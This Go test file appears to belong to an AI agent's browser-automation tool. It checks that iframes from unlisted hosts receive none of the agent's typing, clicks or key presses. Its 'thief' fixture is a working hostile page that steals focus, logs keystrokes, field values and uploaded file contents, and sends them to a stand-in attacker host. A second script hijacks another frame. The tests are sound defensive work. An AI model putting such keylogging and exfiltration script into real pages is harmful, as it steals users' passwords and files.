//go:build unix

package browser_test

import (
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"

	"errand/build/poll"
	"errand/host/browser/page"
	"errand/planner/message"
	"errand/policy"
)

// foreign is a page of a.example with a frame of evil.example, which the page may load but which
// is not listed. ads.a.example is not listed either; it shares the page's process.
type foreign struct {
	*world
	mu     sync.Mutex
	leaked []string // requests from frames of unlisted hosts
}

// thief takes the focus as often as it can and reports all input that it gets.
const thief = `<title>ad</title><input id=z style="opacity:.01"><label>Photo <input type=file id=p></label><label>Phrase <input id=w></label>
	<label>Choice <select id=s><option>one<option>two</select></label><label>Tick <input type=checkbox id=k></label>
	<button onclick="tell('click')">Pay</button><form onsubmit="tell('submit')"><button>Go</button></form>
	<script>
		const tell = (what) => fetch("/leak?" + encodeURIComponent(what));
		if (location.search === "?focus") {
			const take = () => { if (document.activeElement !== z || !document.hasFocus()) { window.focus(); z.focus() } };
			setInterval(take, 0);
			const again = new MessageChannel(); again.port1.onmessage = () => { take(); again.port2.postMessage(0) }; again.port2.postMessage(0);
		}
		onkeydown = (e) => tell("key " + e.key);
		z.oninput = () => tell("typed " + z.value); w.oninput = () => tell("typed " + w.value); s.onchange = k.onchange = () => tell("changed");
		p.onchange = async () => tell("file " + await p.files[0].text());
		setInterval(() => tell("tick"), 50);
		onmouseover = () => tell("hover");
	</script>`

// blankWriter replaces the page's second frame by a blank one with a field. It retries until that
// works, because the frame may not exist yet or may be navigating.
const blankWriter = `<script>
	setInterval(() => {
		const frame = parent.frames[1];
		try {
			const d = frame.document;
			if (d.title === "x") return;
			if (d.URL !== "about:blank") { frame.location = "about:blank"; return }
			d.write("<title>x</title><label>Written <input></label>"); d.close();
		} catch { if (frame) frame.location = "about:blank" }
	}, 300);
</script>`

func newForeign(t testing.TB, body string) (*foreign, *hands) {
	f := &foreign{world: newWorld(t)}
	f.https("a.example", html(`<title>shop</title><label>Password <input type=password id=pw></label><label>Note <textarea id=note>old</textarea></label>
		<div contenteditable role=textbox aria-label=Letter>old</div><form aria-label=Code>`+row("Digit", 4, `style="width:2em;height:2em" maxlength="1"`)+`</form>
		<script>for (const e of document.forms[0].elements) e.oninput = () => { const all = [...document.forms[0].elements]; all[all.indexOf(e) + 1]?.focus() }</script>`+body))
	evil := http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		if what, is := strings.CutPrefix(r.URL.RequestURI(), "/leak?"); is {
			what, _ = url.QueryUnescape(what)
			f.mu.Lock()
			f.leaked = append(f.leaked, what)
			f.mu.Unlock()
			return
		}
		if r.URL.Path == "/blank" { // writes into a blank frame that is another one's
			html(blankWriter).ServeHTTP(rw, r)
			return
		}
		html(thief).ServeHTTP(rw, r)
	})
	f.https("evil.example", evil)
	f.https("ads.a.example", evil)
	f.https("pay.example", html(`<title>pay</title><label>Card <input></label>`))
	b := f.launch(func(o *page.Options) { o.Decide = decideForeign })
	return f, newHands(t, b)
}

func decideForeign(r policy.Request) policy.Decision {
	u, err := url.Parse(r.URL)
	if err == nil && (r.Kind == policy.KindSubresource || slices.Contains([]string{"a.example", "pay.example"}, u.Hostname())) {
		return policy.Decision{Verdict: policy.Allow, Rule: "test.listed"}
	}
	return policy.Decision{Verdict: policy.Ask, Rule: "test.unlisted", Reason: message.Verbatim("it is not in the list"), Hint: message.Verbatim("put it there")}
}

// has returns the requests that contain one of the texts.
func (f *foreign) has(texts ...string) (found []string) {
	f.mu.Lock()
	defer f.mu.Unlock()
	for _, l := range f.leaked {
		if slices.ContainsFunc(texts, func(s string) bool { return strings.Contains(l, s) }) {
			found = append(found, l)
		}
	}
	return found
}

// settle waits until the frame's earlier requests have arrived.
func (f *foreign) settle() {
	f.t.Helper()
	before := len(f.has("tick"))
	if !poll.WaitUntil(func() bool { return len(f.has("tick")) > before+2 }) {
		f.t.Fatal("the frame is silent")
	}
}

// TestFrameTakesFocus checks that a frame that takes the focus gets no text that is typed into
// the page's fields.
func TestFrameTakesFocus(t *testing.T) {
	t.Parallel()
	for _, host := range []string{"evil.example", "ads.a.example"} {
		t.Run(host, func(t *testing.T) {
			f, h := newForeign(t, `<iframe src="https://`+host+`/?focus"></iframe>`)
			h.open("/")
			for _, tt := range []struct{ locator, value string }{
				{`{"label": "Password"}`, "hunter2Xq9"},
				{`{"label": "Note"}`, "two\nlines"},
				{`{"role": "textbox", "name": "Letter"}`, "dear"},
				{`{"label": "Note"}`, ""},
				{`{"label": "Digit 1"}`, "7"},
			} {
				for range 3 {
					h.does("fill", `{"locator": `+tt.locator+`, "value": `+quoted(tt.value)+`}`)
				}
			}
			h.does("assert", `{"locator": {"label": "Note"}, "value": ""}`)
			h.call("fill", `{"locator": {"label": "Digit 1"}, "value": "4711"}`) // the page may lose the focus between two keys
			for _, key := range []string{"a", "Enter", "Space"} {
				for range 3 {
					if r := h.call("press", `{"key": "`+key+`", "locator": {"label": "Password"}}`); !r.OK && r.Error.Code != "frame_denied" && r.Error.Code != "key_astray" {
						t.Errorf("press %s: %v", key, r.Error)
					}
				}
			}
			if r := h.call("press", `{"key": "a"}`); r.OK || r.Error.Code != "frame_denied" {
				t.Errorf("press where the focus is: %v, %v", r.Payload, r.Error)
			}
			f.settle()
			if got := f.has("typed"); len(got) > 0 {
				t.Errorf("the frame got %q", got)
			}
		})
	}
}

// TestForeignFrameGetsNoInput checks that only frames of the page's own origin and of listed
// hosts get input.
func TestForeignFrameGetsNoInput(t *testing.T) {
	t.Parallel()
	calls := map[string]string{
		"fill":   `{"locator": {"label": "Phrase"}, "value": "hunter2Xq9"}`,
		"select": `{"locator": {"label": "Choice"}, "values": ["two"]}`,
		"check":  `{"locator": {"label": "Tick"}, "on": true}`,
		"hover":  `{"locator": {"role": "button", "name": "Pay"}}`,
		"click":  `{"locator": {"role": "button", "name": "Pay"}}`,
		"submit": `{"locator": {"role": "button", "name": "Go"}}`,
		"press":  `{"locator": {"label": "Phrase"}, "key": "a"}`,
	}
	for _, host := range []string{"evil.example", "ads.a.example"} {
		t.Run(host, func(t *testing.T) {
			f, h := newForeign(t, `<iframe src="https://`+host+`/"></iframe>`)
			h.open("/")
			h.does("wait", `{"locator": {"label": "Phrase"}, "timeout_ms": 20000}`)
			for name, args := range calls {
				if r := h.call(name, args); r.OK || r.Error.Code != "frame_denied" {
					t.Errorf("%s: %v, %v", name, r.Payload, r.Error)
				}
			}
			ref := refOf(t, h, "Phrase")
			if r := h.call("fill", `{"locator": {"ref": "`+ref+`"}, "value": "hunter2Xq9"}`); r.OK || r.Error.Code != "frame_denied" {
				t.Errorf("by ref: %v, %v", r.Payload, r.Error)
			}
			f.settle()
			if got := f.has("typed", "key", "file", "changed", "click", "submit", "hover"); len(got) > 0 {
				t.Errorf("the frame got %q", got)
			}
		})
	}
	for _, tt := range []struct{ name, body, label, want string }{
		{"a listed host", `<iframe src="https://pay.example/"></iframe>`, "Card", ""},
		{"srcdoc", `<iframe srcdoc="<label>Inner <input></label>"></iframe>`, "Inner", ""},
		{"srcdoc in a sandbox", `<iframe sandbox="allow-scripts" srcdoc="<label>Inner <input></label>"></iframe>`, "Inner", ""},
		{"a blank frame of the page", `<iframe id=i></iframe><script>i.contentDocument.write("<label>Inner <input></label>"); i.contentDocument.close()</script>`, "Inner", ""},
		{"a blank frame of another host", `<iframe src="https://evil.example/blank"></iframe><iframe src="https://evil.example/"></iframe>`, "Written", "frame_denied"},
		{"data", `<iframe src="data:text/html,<label>Inner <input></label>"></iframe>`, "Inner", "frame_denied"},
		{"a listed host in a frame of another", `<iframe src="https://pay.example/"></iframe><iframe src="https://evil.example/"></iframe>`, "Card", ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			_, h := newForeign(t, tt.body)
			h.open("/")
			h.does("wait", `{"locator": {"label": "`+tt.label+`"}, "timeout_ms": 20000}`)
			r := h.call("fill", fmt.Sprintf(`{"locator": {"label": %q}, "value": "x"}`, tt.label))
			code := ""
			if r.Error != nil {
				code = r.Error.Code
			}
			if code != tt.want {
				t.Errorf("%v, %v, want %q", r.Payload, r.Error, tt.want)
			}
		})
	}
}

// refOf returns the ref of an element in a snapshot.
func refOf(t *testing.T, h *hands, name string) string {
	t.Helper()
	text, _ := h.does("snapshot", "")["snapshot"].(string)
	for line := range strings.Lines(text) {
		if _, after, ok := strings.Cut(line, "[ref="); ok && strings.Contains(line, name) {
			ref, _, _ := strings.Cut(after, "]")
			return ref
		}
	}
	t.Fatalf("no %s in %s", name, text)
	return ""
}
